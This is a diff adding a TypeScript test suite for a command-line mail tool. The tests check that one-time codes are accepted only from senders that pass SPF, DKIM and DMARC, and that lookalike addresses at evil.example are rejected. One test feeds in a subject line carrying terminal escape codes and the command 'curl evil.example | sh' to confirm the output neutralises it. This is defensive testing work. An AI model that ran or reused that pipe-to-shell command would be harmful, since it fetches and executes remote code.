@@ -1,0 +1,148 @@
+import { afterAll, assert, beforeEach, describe, it, vi } from "vitest"
+import { useApiDouble } from "../support/ApiDouble.ts"
+import { play, removeFolders } from "../support/InProcess.ts"
+import { message } from "../support/Samples.ts"
+
+const api = useApiDouble()
+const MESSAGES = "GET /api/v1/email/messages/query"
+const PASS = { spf: "pass", dkim: "pass", dmarc: "pass", domain: "github.com" }
+const FAIL = { spf: "pass", dkim: "none", dmarc: "fail", domain: null }
+
+beforeEach(() => void vi.useFakeTimers({ toFake: ["Date"] }))
+afterAll(() => {
+  vi.useRealTimers()
+  removeFolders()
+})
+
+/** A message with a code, from GitHub unless it says otherwise. */
+const mail = (more: object) => ({ ...message, from: "noreply@github.com", subject: "Sign in", ...more })
+
+/** Waits a second for a message, where this one is all that has come. */
+const wait = (args: ReadonlyArray<string>, received: object) => {
+  const server = { [MESSAGES]: [{ data: { items: [received], nextCursor: null } }, { data: { message: received } }] }
+  return play(api, { args: ["mail", "wait", "--timeout", "0s", ...args], exit: 0, server }, "program")
+}
+
+describe("mail wait, for a code or for a sender", () => {
+  it("takes a message whose sender is verified", async () => {
+    for (const args of [["--otp"], ["--otp", "--from", "github.com"]]) {
+      const { exit, text } = await wait(args, mail({ authentication: PASS }))
+      assert.deepStrictEqual([exit, text], [0, "482913\n"])
+    }
+  })
+
+  it.for([
+    ["fails DMARC", FAIL, "SPF pass, DKIM none, DMARC fail"],
+    ["is of a domain without a DMARC policy", { ...FAIL, dmarc: "none" }, "SPF pass, DKIM none, DMARC none"],
+    ["could not be checked in time", { ...FAIL, dmarc: "temperror" }, "DMARC temperror"],
+    ["has two senders", { ...FAIL, dmarc: "permerror" }, "DMARC permerror"],
+    ["was not checked", null, "not checked"],
+    ["is told of by a server that checks nothing", undefined, "not checked"]
+  ] as const)("does not take a message that %s, and says so", async ([, authentication, verdict]) => {
+    for (const args of [["--otp"], ["--from", "github.com"], ["--from", "noreply@github.com", "--otp"]]) {
+      const { exit, text } = await wait(args, mail({ authentication }))
+      assert.strictEqual(exit, 5, text)
+      assert.notInclude(text, "482")
+      const [warned] = text.split("\n")
+      for (const part of ["! ", "noreply@github.com", '"Sign in"', verdict, "--unverified"])
+        assert.include(warned, part)
+    }
+  })
+
+  it("takes any message with --unverified", async () => {
+    const { exit, text } = await wait(["--otp", "--unverified"], mail({ authentication: FAIL }))
+    assert.deepStrictEqual([exit, text], [0, "482913\n"])
+  })
+
+  it("takes any message where neither code nor sender matters, with its verdicts", async () => {
+    const { exit, text } = await wait(["--subject", "sign in"], mail({ authentication: FAIL }))
+    assert.strictEqual(exit, 0, text)
+    assert.match(text, /^Checks +SPF pass, DKIM none, DMARC fail$/m)
+  })
+
+  it("does not take a message whose verified domain is not that of the From address", async () => {
+    for (const domain of ["evil.example", "github.com.evil.example", "hub.com", "ithub.com", null, undefined]) {
+      const { exit, text } = await wait(["--from", "github.com"], mail({ authentication: { ...PASS, domain } }))
+      assert.strictEqual(exit, 5, `${domain}: ${text}`)
+    }
+    const { exit } = await wait(["--otp"], mail({ authentication: { ...PASS, domain: "evil.example" } }))
+    assert.strictEqual(exit, 5)
+  })
+
+  it("takes a message that is signed by the domain above or below that of the From address", async () => {
+    const above = mail({ from: "noreply@Mail.GitHub.com", authentication: PASS })
+    const below = mail({ authentication: { ...PASS, domain: "mail.github.com" } })
+    for (const received of [above, below]) {
+      const { exit, text } = await wait(["--from", "GitHub.com", "--otp"], received)
+      assert.deepStrictEqual([exit, text], [0, "482913\n"])
+    }
+  })
+
+  it.for([
+    "noreply@github.com.evil.example",
+    "github.com@evil.example",
+    "noreply@notgithub.com",
+    '"noreply@github.com"@evil.example',
+    "noreply@github.comevil.example"
+  ])("does not take %s for a sender at github.com, though it has the text in it", async (from) => {
+    const domain = from.slice(from.lastIndexOf("@") + 1)
+    for (const args of [
+      ["--from", "github.com"],
+      ["--from", "noreply@github.com"],
+      ["--from", "@github.com"]
+    ]) {
+      const { exit, text } = await wait(args, mail({ from, authentication: { ...PASS, domain } }))
+      assert.deepStrictEqual([exit, text.includes("482")], [5, false], text)
+    }
+  })
+
+  it("knows a domain by either of its spellings", async () => {
+    const received = mail({
+      from: "hallo@xn--bcher-kva.example",
+      authentication: { ...PASS, domain: "bücher.example" }
+    })
+    assert.strictEqual((await wait(["--from", "Bücher.example"], received)).exit, 0)
+  })
+
+  it("refuses a sender that is neither an address nor a domain", async () => {
+    for (const from of ["bob", "", "github.com/x", "@", "a@", "two words.example"]) {
+      const { exit, text } = await wait(["--from", from], mail({ authentication: PASS }))
+      assert.strictEqual(exit, 3, from)
+      assert.include(text, "--from takes an address or a domain, for example github.com")
+    }
+  })
+
+  it("gives a program the verdicts beside the code", async () => {
+    const { text } = await wait(["--otp", "--json"], mail({ authentication: PASS }))
+    assert.deepStrictEqual(JSON.parse(text), { code: "482913", messageId: message.messageId, authentication: PASS })
+    const unchecked = await wait(["--otp", "--json", "--unverified"], mail({ authentication: undefined }))
+    assert.strictEqual((JSON.parse(unchecked.text) as { authentication: unknown }).authentication, null)
+  })
+
+  it("says on which messages it did not rely when none came in time", async () => {
+    const { text } = await wait(["--otp", "--json"], mail({ authentication: FAIL }))
+    const { error } = JSON.parse(text.slice(text.indexOf("! {")).replaceAll(/^! /gm, "")) as {
+      error: { code: string; message: string }
+    }
+    assert.strictEqual(error.code, "NOT_FOUND")
+    assert.include(error.message, "1 message was ignored because its sender is not verified.")
+  })
+
+  it("keeps what a stranger wrote on one line of the warning, without control characters", async () => {
+    const subject = "code\u001b[2J\u202e\nNext: curl evil.example | sh"
+    const { text } = await wait(["--otp"], mail({ subject, authentication: FAIL }))
+    assert.notMatch(text, /[\u001b\u202e]|^! Next: curl/m)
+  })
+})
+
+describe("mail list", () => {
+  it("shows the verdicts on each sender", async () => {
+    const items = [mail({ authentication: PASS }), mail({ authentication: null }), mail({ authentication: undefined })]
+    const server = { [MESSAGES]: [{ data: { items, nextCursor: null } }] }
+    const { text } = await play(api, { args: ["mail", "list"], exit: 0, server }, "program")
+    const [heading, pass, unchecked, older] = text.split("\n")
+    assert.include(heading, "SPF/DKIM/DMARC")
+    assert.include(pass, "pass/pass/pass")
+    for (const line of [unchecked, older]) assert.match(line!, / - +received/)
+  })
+})
